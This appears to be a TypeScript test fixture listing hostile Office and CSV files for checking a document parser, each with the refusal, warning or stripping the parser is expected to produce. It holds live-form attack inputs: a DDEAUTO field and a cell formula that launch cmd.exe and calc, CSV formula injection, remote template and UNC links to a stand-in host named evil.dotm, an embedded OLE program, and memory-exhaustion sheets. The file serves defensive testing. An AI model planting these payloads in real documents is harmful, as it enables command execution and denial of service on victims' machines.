import { compoundOf, docxOf, paragraph, rawZip } from '../fixtures.ts'
import type { HostileFile } from './files.ts'
import { body, inline, ledger, plainDocx, relationship, row, SHEETS, utf8, xlsxOf } from './parts.ts'

/** Documents and workbooks with macros, programs, links elsewhere, and sheets without measure. */
export const officeFiles: readonly HostileFile[] = [
  {
    what: 'macros in a document',
    name: 'a.docm',
    make: () => plainDocx({ 'word/vbaProject.bin': compoundOf(['VBA']) }),
    refused: null,
    holds: body,
    warns: /宏没有运行/,
  },
  {
    what: 'macros in a workbook',
    name: 'a.xlsm',
    make: () => xlsxOf(`<sheetData>${ledger}</sheetData>`, { 'xl/vbaProject.bin': compoundOf(['VBA']) }),
    refused: null,
    holds: body,
    warns: /宏没有运行/,
  },
  {
    what: 'a template from another machine',
    name: 'a.docx',
    make: () =>
      plainDocx({
        'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'http://198.51.100.7/evil.dotm'),
        'word/settings.xml': '<w:settings/>',
      }),
    refused: null,
    holds: body,
    without: /198\.51/,
  },
  {
    what: 'a picture and a frame from another machine',
    name: 'a.docx',
    make: () => plainDocx({ 'word/_rels/document.xml.rels': relationship('image', 'file://198.51.100.7/share/x.png') }),
    refused: null,
    holds: body,
    without: /198\.51/,
  },
  {
    what: 'the document part itself outside the file',
    name: 'a.docx',
    make: () => plainDocx({ '_rels/.rels': relationship('officeDocument', 'http://198.51.100.7/document.xml') }),
    refused: null,
    holds: body,
  },
  {
    what: 'a link to a workbook elsewhere',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(`<sheetData>${ledger}</sheetData>`, {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationship('externalLinkPath', '\\\\198.51.100.7\\x.xlsx'),
      }),
    refused: null,
    holds: body,
    without: /198\.51/,
  },
  {
    what: 'an embedded program (OLE)',
    name: 'a.docx',
    make: () => plainDocx({ 'word/embeddings/oleObject1.bin': compoundOf(['\u0001Ole10Native'], utf8('MZ calc.exe')) }),
    refused: null,
    holds: body,
    without: /calc/,
  },
  {
    what: 'a field that calls a program (DDE)',
    name: 'a.docx',
    make: () =>
      docxOf(
        `${paragraph(body)}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    refused: null,
    holds: body,
    without: /cmd\.exe/,
  },
  {
    what: 'a formula cell that calls a program',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(`<sheetData>${ledger}${row(3, '<c r="A3"><f>cmd|\'/c calc\'!A0</f><v>0</v></c>', inline('B3', '第二个问题'))}</sheetData>`),
    refused: null,
    holds: '第二个问题',
    without: /calc/,
  },
  {
    what: 'text cells that begin like formulas',
    name: 'a.csv',
    make: () => utf8(`序号,问题\n1,"=HYPERLINK(""http://198.51.100.7"",""点"")"\n2,@SUM(A1)\n3,${body}\n`),
    refused: null,
    holds: body,
  },
  {
    what: 'an Office file under a password',
    name: 'a.docx',
    make: () => compoundOf(['EncryptionInfo', 'EncryptedPackage']),
    refused: /encrypted/,
  },
  {
    what: 'an archive under a password',
    name: 'a.docx',
    make: () => rawZip([{ name: 'word/document.xml', content: utf8('x'), flags: 1 }]),
    refused: /encrypted/,
  },
  {
    what: 'a sheet that claims a million rows by sixteen thousand columns',
    name: 'a.xlsx',
    make: () => xlsxOf(`<dimension ref="A1:XFD1048576"/><sheetData>${ledger}</sheetData>`),
    refused: null,
    holds: body,
  },
  {
    what: 'two cells at the far corners of a sheet',
    name: 'a.xlsx',
    make: () => xlsxOf(`<sheetData>${ledger}${row(1_048_576, inline('XFD1048576', '远'))}</sheetData>`),
    refused: /too-many-cells/,
  },
  {
    what: 'a million merged cells',
    name: 'a.xlsx',
    make: () => xlsxOf(`<sheetData>${ledger}</sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(1_000_000)}</mergeCells>`),
    refused: /zip-bomb|too-much-memory|too-slow/,
  },
  {
    what: 'a hundred thousand merged cells over one another',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(
        `<sheetData>${ledger}</sheetData><mergeCells>${Array.from({ length: 100_000 }, (_, n) => `<mergeCell ref="A1:${'ABCDEFGHIJ'[n % 10]}${1 + (n % 1000)}"/>`).join('')}</mergeCells>`,
      ),
    refused: null,
    holds: '序号',
  },
  {
    what: 'one cell of four million characters',
    name: 'a.xlsx',
    make: () => xlsxOf(`<sheetData>${row(1, inline('A1', '长'.repeat(4_000_000)))}</sheetData>`),
    refused: /too-much-text|zip-bomb/,
  },
  {
    what: 'shared strings without end',
    name: 'a.xlsx',
    make: () =>
      xlsxOf(
        `<sheetData>${row(1, '<c r="A1" t="s"><v>4294967295</v></c>', '<c r="B1" t="s"><v>-1</v></c>')}${ledger.replaceAll('r="1"', 'r="4"')}</sheetData>`,
        {
          'xl/sharedStrings.xml': `<sst ${SHEETS} count="4294967295" uniqueCount="4294967295">${'<si><t>x</t></si>'.repeat(200_000)}</sst>`,
        },
      ),
    refused: null,
    holds: body,
  },
  {
    what: 'a table whose cells span millions',
    name: 'a.docx',
    make: () => docxOf(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>${paragraph(body)}</w:tc></w:tr></w:tbl>`),
    refused: null,
    holds: body,
  },
  {
    what: 'automatic numbers counted to the last integer',
    name: 'a.docx',
    make: () => docxOf(paragraph(body, '<w:pPr><w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="2147483647"/></w:numPr></w:pPr>')),
    refused: null,
    holds: body,
  },
]
